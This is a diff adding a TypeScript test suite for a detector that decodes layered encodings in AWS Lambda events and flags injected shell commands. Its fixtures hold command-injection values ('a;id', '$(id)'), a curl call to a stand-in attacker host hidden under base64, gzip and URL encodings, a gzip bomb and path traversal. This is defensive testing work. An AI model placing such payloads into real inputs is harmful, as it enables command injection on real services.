@@ -1,0 +1,303 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { runInNewContext } from 'node:vm';
+import { deflateSync, gzipSync } from 'node:zlib';
+import fc from 'fast-check';
+import { inspectEvent } from './inspect.ts';
+import { readData, readEvent } from './reader.ts';
+import type { Value } from './value.ts';
+
+const base64 = (data: string | Buffer): string => Buffer.from(data).toString('base64');
+const shown = ({ path, encodings, text }: Value): string => `${[path, ...encodings].join(' › ')} = ${text}`;
+const record = (source: string, members: object) => ({ Records: [{ eventSource: source, ...members }] });
+
+// Each row: one value that must be among those of the event.
+const rows: readonly { readonly name: string; readonly event: unknown; readonly expected: string }[] = [
+  {
+    name: 'Kinesis data: base64, gzip, JSON',
+    event: record('aws:kinesis', { kinesis: { data: base64(gzipSync('{"cmd":"a;id"}')) } }),
+    expected: '$.Records[0].kinesis.data › base64 › gzip › json:$.cmd = a;id',
+  },
+  {
+    name: 'Kinesis data that is no text of base64 by its looks',
+    event: record('aws:kinesis', { kinesis: { data: base64(Buffer.from('\x01;id', 'latin1')) } }),
+    expected: '$.Records[0].kinesis.data › base64 = \x01;id',
+  },
+  {
+    name: 'an S3 key is form-encoded',
+    event: record('aws:s3', { s3: { object: { key: 'a+b%3Bid.pdf' } } }),
+    expected: '$.Records[0].s3.object.key › form = a b;id.pdf',
+  },
+  {
+    name: 'an SNS message is JSON again',
+    event: { Records: [{ EventSource: 'aws:sns', Sns: { Message: '{"a":{"b c":"x"}}' } }] },
+    expected: "$.Records[0].Sns.Message › json:$.a['b c'] = x",
+  },
+  {
+    name: 'S3 in SQS: the key is still form-encoded',
+    event: record('aws:sqs', { body: JSON.stringify(record('aws:s3', { s3: { object: { key: 'x+y' } } })) }),
+    expected: '$.Records[0].body › json:$.Records[0].s3.object.key › form = x y',
+  },
+  {
+    name: 'S3 in SNS in SQS',
+    event: record('aws:sqs', {
+      body: JSON.stringify({ Type: 'Notification', Message: JSON.stringify(record('aws:s3', { s3: { object: { key: 'x%26y' } } })) }),
+    }),
+    expected: '$.Records[0].body › json:$.Message › json:$.Records[0].s3.object.key › url = x&y',
+  },
+  {
+    name: 'what a wrapped event says is stamped may be forged',
+    event: record('aws:sqs', { body: JSON.stringify(record('aws:s3', { eventName: '$(id)' })) }),
+    expected: '$.Records[0].body › json:$.Records[0].eventName = $(id)',
+  },
+  {
+    name: 'a body in base64',
+    event: { version: '2.0', requestContext: { apiId: 'a', http: { method: 'POST' } }, isBase64Encoded: true, body: base64('q=a%3Bid') },
+    expected: '$.body › base64 › form:$.q = a;id',
+  },
+  {
+    name: 'base64url, zlib',
+    event: { v: deflateSync('hello world').toString('base64url') },
+    expected: '$.v › base64url › deflate = hello world',
+  },
+  { name: 'percent, twice', event: { v: '%252e%252e%252f' }, expected: '$.v › url › url = ../' },
+  {
+    name: 'base64 in a form in JSON',
+    event: { v: JSON.stringify({ q: `data=${base64('curl evil')}` }) },
+    expected: '$.v › json:$.q › form:$.data › base64 = curl evil',
+  },
+  { name: 'a query in a path', event: { path: '/p?u=http%3A%2F%2Fx' }, expected: '$.path › form:$.u = http://x' },
+  { name: 'a name', event: { v: { 'a;id': 1 } }, expected: "$.v['a;id'] = a;id" },
+  { name: 'a quote in a name', event: { "it's": 'x' }, expected: "$['it\\'s'] = x" },
+  { name: 'a Buffer', event: { b: Buffer.from('a;id') }, expected: '$.b = a;id' },
+  { name: 'compressed bytes', event: { b: new Uint8Array(gzipSync('hello')) }, expected: '$.b › gzip = hello' },
+  { name: 'a Map', event: { m: new Map([['k', 'v;id']]) }, expected: '$.m[1] = v;id' },
+  { name: 'a boxed string', event: { s: Object('boxed') }, expected: '$.s = boxed' },
+  { name: '__proto__ is a name like any other', event: JSON.parse('{"__proto__":{"x":"y z"}}'), expected: '$.__proto__.x = y z' },
+  { name: 'the event is text', event: 'a;id', expected: '$ = a;id' },
+];
+describe('readEvent', () => {
+  for (const { name, event, expected } of rows)
+    test(name, () => assert.ok(readEvent(event).values.map(shown).includes(expected), readEvent(event).values.map(shown).join('\n')));
+  test('has a table', (context) => context.diagnostic(`note: readEvent: ${rows.length} rows`));
+});
+
+test('one decoding of one text at one place is one value', () => {
+  const texts = readEvent({ v: 'a+b%20c' }).values.map(({ path, text }) => `${path} ${text}`);
+  assert.equal(new Set(texts).size, texts.length);
+});
+test('raw values come before decoded ones, so that no padding hides them', () => {
+  const { values, incomplete } = readEvent({ a: base64('x'.repeat(3000)), b: 'y;id' }, { limits: { size: 5000 } });
+  assert.equal(incomplete, 'size');
+  assert.deepEqual(
+    values.slice(0, 2).map(({ path }) => path),
+    ['$.a', '$.b'],
+  );
+});
+test('readData gives the whole text first', () => {
+  const { values } = readData('{"a":"x y"}');
+  assert.deepEqual(values.map(shown), ['$ = {"a":"x y"}', '$ › json:$.a = x y']);
+  assert.equal(values[0]?.isParsed, true);
+  assert.deepEqual(readData(Buffer.from('x y'), { path: '$.body' }).values.map(shown), ['$.body = x y']);
+});
+test('a misspelt option is an error', () => {
+  assert.throws(() => readEvent({}, { limit: {} } as never), TypeError);
+  assert.throws(() => readEvent({}, { limits: { dept: 1 } } as never), TypeError);
+  assert.throws(() => readEvent({}, { limits: { depth: -1 } }), TypeError);
+});
+
+let nested: unknown = 'a;id';
+for (let i = 0; i < 200; i++) nested = [nested];
+const cyclic: { self?: unknown; a: string } = { a: 'x;id' };
+cyclic.self = cyclic;
+const wide: unknown[] = ['x'];
+for (let i = 0; i < 40; i++) wide[0] = [wide[0], wide[0]];
+
+const bounds: readonly {
+  readonly name: string;
+  readonly event: unknown;
+  readonly limits?: object;
+  readonly expected: string | undefined;
+}[] = [
+  { name: 'nested too deep', event: nested, expected: 'depth' },
+  { name: 'JSON nested too deep', event: { v: `${'['.repeat(100_000)}"x"${']'.repeat(100_000)}` }, expected: 'depth' },
+  {
+    name: 'JSON in JSON in JSON …',
+    event: { v: Array.from({ length: 12 }).reduce<string>((text) => JSON.stringify([text]), 'x') },
+    limits: { depth: 10 },
+    expected: 'depth',
+  },
+  { name: 'percent signs of percent signs', event: { v: `%${'25'.repeat(500)}` }, expected: 'depth' },
+  {
+    name: 'a gzip bomb',
+    event: record('aws:kinesis', { kinesis: { data: base64(gzipSync(Buffer.alloc(30_000_000))) } }),
+    expected: 'ratio',
+  },
+  {
+    name: 'more values than the bound',
+    event: Array.from({ length: 300 }, (_, i) => `v ${i}`),
+    limits: { values: 200 },
+    expected: 'values',
+  },
+  { name: 'more text than the bound', event: { a: 'x'.repeat(200) }, limits: { size: 100 }, expected: 'size' },
+  { name: 'an array of holes', event: { a: new Array(4_000_000_000) }, expected: 'values' },
+  { name: 'one object in a million places', event: wide, expected: 'values' },
+  { name: 'a cycle is read once', event: cyclic, expected: undefined },
+  { name: 'no bound reached', event: { a: 'x' }, expected: undefined },
+];
+describe('limits', () => {
+  for (const { name, event, limits, expected } of bounds)
+    test(name, () => assert.equal(readEvent(event, limits ? { limits } : undefined).incomplete, expected));
+  test('time by the clock that was given', () => {
+    let clock = 0;
+    const reading = readEvent(
+      Array.from({ length: 1000 }, () => 'a b'),
+      { limits: { time: 5 }, now: () => clock++ },
+    );
+    assert.equal(reading.incomplete, 'time');
+  });
+  test('an event of 50 MB ends at the size with its beginning looked at', () => {
+    const inspection = inspectEvent({ v: `; curl http://attacker.example/ ${'x'.repeat(50_000_000)}` });
+    assert.equal(inspection.incomplete, 'size');
+    assert.equal(inspection.level, 'certain');
+  });
+});
+
+const hostile: readonly { readonly name: string; readonly event: () => unknown }[] = [
+  {
+    name: 'a getter that throws',
+    event: () => ({
+      get a() {
+        throw new Error('no');
+      },
+      b: 'x;id',
+    }),
+  },
+  {
+    name: 'a proxy that refuses',
+    event: () => ({
+      p: new Proxy(
+        {},
+        {
+          ownKeys: () => {
+            throw new Error('no');
+          },
+        },
+      ),
+    }),
+  },
+  {
+    name: 'a revoked proxy',
+    event: () => {
+      const { proxy, revoke } = Proxy.revocable({}, {});
+      revoke();
+      return { proxy };
+    },
+  },
+  {
+    name: 'a proxy as the event',
+    event: () =>
+      new Proxy(
+        {},
+        {
+          get: () => {
+            throw new Error('no');
+          },
+          has: () => {
+            throw new Error('no');
+          },
+          getOwnPropertyDescriptor: () => {
+            throw new Error('no');
+          },
+        },
+      ),
+  },
+  { name: 'functions', event: () => ({ f() {} }) },
+  { name: 'an error', event: () => ({ e: new Error('x') }) },
+  { name: 'a promise', event: () => Promise.resolve() },
+];
+describe('what cannot be read is said', () => {
+  for (const { name, event } of hostile)
+    test(name, () =>
+      assert.equal(inspectEvent(event()).incomplete === 'unreadable' || name === 'an error' || name === 'a proxy as the event', true),
+    );
+});
+
+test('BigInt, symbols, dates, NaN and holes hold no text', () => {
+  const { values, incomplete } = readEvent({
+    a: 10n,
+    b: Symbol('x'),
+    c: new Date(0),
+    d: Number.NaN,
+    e: [undefined, null],
+    [Symbol('k')]: 'x',
+  });
+  assert.deepEqual([values.length, incomplete], [0, undefined]);
+});
+test('patched prototypes of the event’s own realm change nothing', () => {
+  const event = runInNewContext(`
+    const event = { Records: [{ eventSource: 'aws:sqs', body: '; curl http://attacker.example/' }], bytes: new Uint8Array([36, 40, 105, 100, 41]), map: new Map([['k', 'v w']]) };
+    for (const name of ['forEach', 'map', 'push', 'keys', 'entries']) Array.prototype[name] = () => { throw new Error('patched'); };
+    Array.prototype[Symbol.iterator] = () => { throw new Error('patched'); };
+    Object.keys = () => []; Object.prototype.hasOwnProperty = () => false;
+    Map.prototype.forEach = Map.prototype.entries = () => {};
+    Object.defineProperty(Object.getPrototypeOf(Uint8Array.prototype), 'length', { get() { return 0; } });
+    event;
+  `);
+  const reading = readEvent(event);
+  assert.equal(reading.trigger, 'aws:sqs');
+  assert.ok(reading.values.map(shown).includes('$.bytes = $(id)'));
+  assert.ok(reading.values.map(shown).includes('$.map[1] = v w'));
+  assert.equal(inspectEvent(event).level, 'certain');
+});
+
+test('any event: no throw, no change, paths and spans that exist', () => {
+  fc.assert(
+    fc.property(
+      fc.object({
+        maxDepth: 4,
+        withBigInt: true,
+        withDate: true,
+        withMap: true,
+        withSet: true,
+        withTypedArray: true,
+        withSparseArray: true,
+        withNullPrototype: true,
+        withObjectString: true,
+      }),
+      (event) => {
+        const frozen = deepFreeze(event);
+        const inspection = inspectEvent(frozen);
+        for (const { span } of inspection.detections) assert.ok(span[0] < span[1]);
+      },
+    ),
+    { numRuns: 300 },
+  );
+});
+test('a payload is found under any stack of encodings', () => {
+  const layers: Readonly<Record<string, (text: string) => string>> = {
+    base64: (text) => base64(text),
+    base64url: (text) => Buffer.from(text).toString('base64url'),
+    gzip: (text) => base64(gzipSync(text)),
+    zlib: (text) => base64(deflateSync(text)),
+    url: (text) => encodeURIComponent(text),
+    json: (text) => JSON.stringify({ a: [text] }),
+    form: (text) => new URLSearchParams({ q: text }).toString(),
+  };
+  fc.assert(
+    fc.property(fc.array(fc.constantFrom(...Object.keys(layers)), { maxLength: 5 }), (stack) => {
+      const payload = 'a; curl http://attacker.example/';
+      const text = stack.reduce((inner, layer) => (layers[layer] as (text: string) => string)(inner), payload);
+      assert.equal(inspectEvent({ v: text }).level, 'certain', stack.join(', '));
+    }),
+    { numRuns: 200 },
+  );
+});
+
+function deepFreeze<T>(value: T): T {
+  if (typeof value === 'object' && value !== null && !ArrayBuffer.isView(value) && !Object.isFrozen(value)) {
+    Object.freeze(value);
+    for (const key of Object.keys(value)) deepFreeze((value as Record<string, unknown>)[key]);
+  }
+  return value;
+}
